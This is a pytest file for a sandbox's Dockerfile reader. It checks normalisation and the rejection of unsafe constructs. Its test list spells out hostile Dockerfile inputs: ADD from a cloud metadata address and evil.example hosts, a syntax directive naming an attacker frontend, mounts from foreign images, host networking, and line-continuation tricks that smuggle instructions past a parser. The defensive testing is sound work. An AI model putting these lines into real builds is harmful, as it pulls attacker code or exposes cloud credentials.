"""A repository's Dockerfile is understood wholly or refused, and the engine reads what was understood."""

from __future__ import annotations

import pytest

from sandbox.errors import ImageError
from sandbox.images.dockerfile import LONGEST, read_dockerfile

PLAIN = """ARG BASE=python:3.11
# syntax=is only a comment after the first instruction
from ${BASE} as Build
RUN pip  install \\
    # a comment in between

    one 'two  three'
COPY --chown=1:1 a\\
b.txt /x
FROM scratch
COPY --from=BUILD /x /y
COPY --from=0 /x /z
ENV A=b
FROM ${MISSING:-other:2}
"""

AS_READ = """ARG BASE=python:3.11
FROM python:3.11 AS build
RUN pip  install     one 'two  three'
COPY --chown=1:1 ab.txt /x
FROM scratch
COPY --from=build /x /y
COPY --from=0 /x /z
ENV A=b
FROM other:2
"""


def test_an_engine_reads_one_plain_line_for_each_instruction() -> None:
    recipe = read_dockerfile(PLAIN, {})
    assert recipe.text == AS_READ
    assert recipe.parents == ("python:3.11", "other:2")
    again = read_dockerfile(recipe.text, {})
    assert again == recipe


def test_arguments_of_the_caller_choose_the_parent_and_only_declared_ones_go_on() -> None:
    recipe = read_dockerfile(PLAIN, {"BASE": "other:1", "BUILDKIT_SYNTAX": "evil.example/frontend", "MISSING": "evil"})
    assert recipe.parents == ("other:1", "other:2")
    assert recipe.args == {"BASE": "other:1"}
    with pytest.raises(ImageError, match="steers the builder"):
        read_dockerfile("ARG BUILDKIT_SYNTAX\nFROM a", {"BUILDKIT_SYNTAX": "evil.example/frontend"})
    with pytest.raises(ImageError):
        read_dockerfile("ARG A\nFROM $A", {"A": "a AS b"})


def test_arguments_after_a_first_stage_choose_no_parent() -> None:
    text = "ARG I=first:1\nFROM scratch\nARG I=second:1\nFROM $I\nARG I=third:1\nFROM a AS b\nFROM B"
    assert read_dockerfile(text, {}).parents == ("first:1", "a")
    assert read_dockerfile("FROM a\r\nRUN x\r\nFROM A:2 AS b\nFROM b\n", {}).parents == ("a", "A:2")


@pytest.mark.parametrize(
    "text",
    [
        "FROM a\nADD http://169.254.169.254/latest/meta-data /x",
        "FROM a\nADD https://evil.example/x /x",
        "FROM a\nADD git@evil.example:x/y.git /x",
        "FROM a\nADD --checksum=sha256:0 https://evil.example/x /x",
        'FROM a\nADD ["http://evil.example/x", "/x"]',
        "FROM a\nARG U=http://evil.example\nADD $U /x",
        "FROM a\nADD \\\n http://evil.example/x /x",
        "FROM a\nADD http:/\\\n/evil.example/x /x",
        "FROM a\nADD github.com/x/y.gi\\\nt#:evil@x:y /x",
        "FROM a\nADD github.com/x/y.gi\\\nt /y",
        "FROM a\nADD x/y.git /y",
        "FROM a\nADD github.com/x/y /y",
        "FROM a\nADD someone@evil.example:x/y /x",
        "FROM a\nRUN --mou\\\nnt=type=bind,from=evil.example/image,target=/x true",
        "FROM a\nRUN\t--mount=type=secret,id=x true",
        "FROM a\nCOPY --fr\\\nom=evil.example/image /x /y",
        "FROM a\nCOPY --chown=0 \\\n--from=evil.example/image /x /y",
        "FROM a\nCOPY /x --from=evil.example/image /y",
        "FROM a\nCOPY --from=0 /x /y",
        "FROM a AS b\nCOPY --from=b /x /y",
        "FROM a\nFROM b\nCOPY --from=7 /x /y",
        "FROM a AS b\nFROM c\nADD --from=b /x /y",
        "FROM a\nCOPY --parents=x --link /x /y",
        "FROM a AS b\nFROM c AS B",
        "FROM a AS scratch",
        "FROM a AS 0",
        "ARG A=1 I=evil\nFROM ${I}",
        "ARG I=allowed\nARG A=1 I=evil\nFROM ${I}",
        'ARG I="a\\"b"\nFROM ${I}',
        "ARG I=$X\nFROM ${I:-a}",
        "FROM scratch\nARG I=evil\nFROM ${I}",
        "ONBUILD RUN x\nFROM a",
        "RUN x\nFROM a",
        "ADD http://evil.example/x /x\nFROM a",
        "\n\n# Syntax = evil.example/frontend:1\nFROM a",
        "\n" * 20 + "# syntax=evil.example/frontend:1\nFROM a",
        "// syntax=evil.example/frontend:1\nFROM a",
        '{"syntax": "evil.example/frontend:1"}\nFROM a',
        "\ufeff# syntax=evil.example/frontend:1\nFROM a",
        "FROM a\nRUN x \\\\\nADD http://evil.example/x /x",
        "FROM a\nRUN x \\",
        "FROM docker-image://evil.example/x",
        "FROM https://evil.example/x.git",
        "FROM a\nINCLUDE evil",
        "FROM a\nRUN x\ufffd",
        "FROM a\nCOPY --from=evil.example/image:1 / /x",
        "FROM a\nRUN --mount=type=bind,from=evil.example/image,target=/x true",
        "FROM a\nRUN --network=host curl http://127.0.0.1",
        "FROM a\nRUN --security=insecure true",
        "FROM a\nONBUILD ADD http://evil.example/x /x",
        "FROM a\nHEALTHCHECK CMD curl http://x",
        "# syntax=evil.example/frontend:1\nFROM a",
        "# escape=`\nFROM a\nRUN x \\\nADD http://evil.example/x /x",
        "FROM a\nRUN x \\\u00a0\nADD http://evil.example/x /x",  # a blank that ends a line to us and not to the engine
        "FROM a\nRUN x\rADD http://evil.example/x /x",
        "FROM a\nRUN x\x0bADD http://evil.example/x /x",
        "FROM a\nRUN <<EOF\nADD\nEOF",
        "FROM a\nCOPY <<EOF /x\nhi\nEOF",
        "FROM --platform=linux/evil a",
        "FROM $UNKNOWN",
        "FROM a${UNKNOWN:+b}",
        "RUN true",
        "",
        "FROM a\nWHATEVER x",
        "FROM a\n" + "#" * LONGEST,
    ],
)
def test_a_repositorys_dockerfile_reaches_nothing_but_itself(text: str) -> None:
    with pytest.raises(ImageError):
        read_dockerfile(text, {})
